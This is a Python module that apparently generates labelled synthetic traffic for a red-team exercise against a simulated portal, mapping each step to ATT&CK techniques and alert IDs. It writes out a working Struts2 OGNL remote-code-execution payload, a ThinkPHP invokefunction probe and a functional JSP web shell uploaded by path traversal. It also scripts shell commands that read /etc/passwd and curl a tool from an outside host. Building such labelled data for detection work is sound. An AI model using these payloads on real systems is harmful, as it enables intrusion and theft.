"""From outside into the portal: scan, exploit, web shell, sweep of the next access point."""

import protocols
from exercise_01 import DESK, FILES, HOST, LINUX, PORTAL, QUEUE, RED, RED_FILES, T, page_talk
from packets import Dice, Talk

PORTS = (
    "21 22 23 25 80 110 111 135 139 143 389 443 445 873 1099 1433 1521 2049 2375 3306 3389 5432 5900 6379 "
    "7001 8009 8080 8161 8443 8848 9000 9200 11211 27017 50000 61616"
)
WORDS = (
    "admin login manage backup.zip .git/config .env upload test api console actuator druid phpmyadmin "
    "manager/html portal WEB-INF/web.xml old bak web.rar data solr jenkins nacos seeyon weaver yyoa oa "
    "system static swagger-ui.html v2/api-docs install config db tmp log logs shell cmd user users "
    "index.action login.action robots.txt sitemap.xml doc"
)


def ports(site):
    """A half-open scan of two hosts."""
    site.campaign("C1", "From the portal to a service station and out")
    start = now = T("01:03:10.120")
    for host, opened in ((PORTAL, (80, 443)), ("10.31.4.25", (25, 143, 443))):
        for port in map(int, PORTS.split()):
            talk = Talk(
                site.portal, now, RED, 51234 + (host != PORTAL), host, port, 900, ("scanner", "linux")
            )
            if port in opened:
                talk.segment(talk.client, 2, options=b"\x02\x04\x05\xb4")
                talk.now += 900
                talk.segment(talk.server, 18, options=b"\x02\x04\x05\xb4")
                talk.now += 300
                talk.segment(talk.client, 4)
            else:
                talk.refused()
            now += 310_000
    site.did(
        start,
        talk.now,
        "T1595.001",
        "reconnaissance",
        RED,
        PORTAL,
        "half-open scan of the portal and the mail server",
        [9000001, 9000001, 9000003],
    )


def paths(site):
    """Paths of the portal, from a list."""
    start = T("01:05:02.400")
    talk = page_talk(site, start, 43120)
    for word in WORDS.split():
        status = "200 OK" if word in ("portal", "index.action", "robots.txt") else "404 Not Found"
        talk.ask(protocols.request("GET", f"/{word}", HOST, agent="gobuster/3.6"), 420_000).answer(
            protocols.response(status, "<h1>Not Found</h1>"), 900
        )
    talk.close()
    site.did(
        start,
        talk.now,
        "T1595.003",
        "reconnaissance",
        RED,
        PORTAL,
        "paths guessed from a list",
        [9000007, 9000008, 9000009],
    )


def wrong_exploit(site):
    """An exploit of a framework that the portal does not use."""
    start = T("01:08:20.015")
    talk = page_talk(site, start, 43388)
    think = "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"
    talk.ask(protocols.request("GET", think, HOST, agent="python-requests/2.31.0")).answer(
        protocols.response("404 Not Found", "<h1>Not Found</h1>")
    ).close()
    site.did(
        start,
        talk.now,
        "T1190",
        "initial-access",
        RED,
        PORTAL,
        "call of a ThinkPHP function; the portal does not use it",
        [9000312],
        success=False,
    )


def exploit(site):
    """An expression in the content type runs a command."""
    start = T("01:09:05.730")
    talk = page_talk(site, start, 43402)
    ognl = (
        "%{(#n='multipart/form-data').(#d=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#d):((#c=#context"
        "['com.opensymphony.xwork2.ActionContext.container']).(#o=#c.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#o.getExcludedClasses"
        "().clear()))).(#p=new java.lang.ProcessBuilder({'/bin/sh','-c','id'})).(#x=#p.start()).(@org.apache.commons.io.IOUtils@copy(#x."
        "getInputStream(),@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}"
    )
    talk.ask(
        protocols.request(
            "GET", "/portal/index.action", HOST, [("Content-Type", ognl)], agent="python-requests/2.31.0"
        )
    )
    talk.answer(
        protocols.response(
            body="uid=1001(tomcat) gid=1001(tomcat) groups=1001(tomcat)\n",
            kind="text/plain",
            server="Apache-Coyote/1.1",
        ),
        60_000,
    ).close()
    site.did(
        start,
        talk.now,
        "T1190",
        "initial-access",
        RED,
        PORTAL,
        "Struts expression in the content type; the portal answers with the output of id",
        [9000106, 9000308],
    )


def upload(site):
    """A web shell."""
    start = T("01:10:12.205")
    talk = page_talk(site, start, 43460)
    shell = (
        '<%@page import="java.io.*"%><%String c=request.getParameter("cmd");if(c!=null){Process p=Runtime.getRuntime().exec(new String[]'
        '{"/bin/sh","-c",c});BufferedReader r=new BufferedReader(new InputStreamReader(p.getInputStream()));String l;while((l=r.readLine())!=null)'
        "{out.println(l);}}%>"
    )
    body = protocols.form(
        "----b7Qx21", [("file", "help.jsp", "image/png", shell), ("folder", None, "", "../portal/upload")]
    )
    talk.ask(
        protocols.request(
            "POST",
            "/portal/file/save.action",
            HOST,
            [("Content-Type", "multipart/form-data; boundary=----b7Qx21")],
            body,
        )
    )
    talk.answer(
        protocols.response(
            body='{"ok":true,"path":"/portal/upload/help.jsp"}',
            kind="application/json",
            server="Apache-Coyote/1.1",
        )
    ).close()
    site.did(
        start, talk.now, "T1505.003", "persistence", RED, PORTAL, "upload of a web shell, help.jsp", [9000101]
    )


def commands(site):
    """What is asked of the web shell, and a tool fetched with it."""
    interfaces = (
        "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet 10.31.4.20  netmask 255.255.255.0  broadcast 10.31.4.255\n\n"
        "lo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n        inet 127.0.0.1  netmask 255.0.0.0\n"
    )
    accounts = (
        "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\nsshd:x:74:74:Privilege-separated SSH:/var/empty/sshd:/sbin/nologin\n"
        "tomcat:x:1001:1001::/home/tomcat:/bin/bash\nfilesync:x:1002:1002:sync to 10.32.10.12:/home/filesync:/bin/bash\n"
    )
    steps = [
        (
            "01:11:01.300",
            [
                ("id", "uid=1001(tomcat) gid=1001(tomcat) groups=1001(tomcat)\n"),
                ("uname%20-a", "Linux portal01 4.19.90-52 #1 SMP x86_64 GNU/Linux\n"),
            ],
            "T1059.004",
            "execution",
            "commands through the web shell: id, uname",
            [9000105, 9000106],
        ),
        (
            "01:12:24.910",
            [("ifconfig", interfaces)],
            "T1016",
            "discovery",
            "the portal's network configuration through the web shell",
            [9000110],
        ),
        (
            "01:13:02.450",
            [("cat%20/etc/passwd", accounts)],
            "T1087.001",
            "discovery",
            "the portal's accounts through the web shell",
            [9000111],
        ),
        (
            "01:13:58.100",
            [("curl%20-o%20/tmp/.f%20http://203.0.113.9:8000/fscan_amd64", "\n")],
            None,
            None,
            None,
            (),
        ),
    ]
    for port, (clock, commands, technique, tactic, note, alerts) in enumerate(steps, 43510):
        start = T(clock)
        talk = page_talk(site, start, port)
        for command, output in commands:
            talk.ask(protocols.request("GET", f"/portal/upload/help.jsp?cmd={command}", HOST), 900_000)
            talk.answer(
                protocols.response(body=output, kind="text/html;charset=UTF-8", server="Apache-Coyote/1.1"),
                30_000,
            )
        talk.close()
        if technique:
            site.did(start, talk.now, technique, tactic, RED, PORTAL, note, alerts)
    fetch = T("01:13:59.420")
    talk = Talk(site.portal, fetch, PORTAL, 39122, RED_FILES, 8000, 21000, LINUX).open()
    talk.ask(
        protocols.request("GET", "/fscan_amd64", "203.0.113.9:8000", [("Accept", "*/*")], agent="curl/7.29.0")
    )
    tool = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + Dice("tool").bytes(7000)
    talk.answer(
        protocols.response(body=tool, kind="application/octet-stream", server="SimpleHTTP/0.6 Python/3.11.2")
    ).close()
    site.did(
        start,
        talk.now,
        "T1105",
        "command-and-control",
        PORTAL,
        RED_FILES,
        "the portal fetches a scanner",
        [9000530],
    )


def sweep(site):
    """The portal looks round in the next access point."""
    start = now = T("01:15:30.640")
    alive = {(FILES, 22): 1, (FILES, 445): 1, (QUEUE, 22): 1, (DESK, 445): 1}
    for last in (*range(1, 33),):
        for port in (22, 445, 3306):
            host = f"10.32.10.{last}"
            talk = Talk(site.hall, now, PORTAL, 40000 + last * 8 + port % 7, host, port, 2600, LINUX)
            if (host, port) in alive:
                talk.open().reset()
            elif host in (FILES, QUEUE, DESK):
                talk.refused()
            else:
                talk.unanswered()
            now += 190_000
    site.did(
        start,
        talk.now,
        "T1046",
        "discovery",
        PORTAL,
        FILES,
        "sweep of the service hall's network from the portal",
        [9000002],
    )


def play(site):
    """All of it, in order."""
    for part in (ports, paths, wrong_exploit, exploit, upload, commands, sweep):
        part(site)
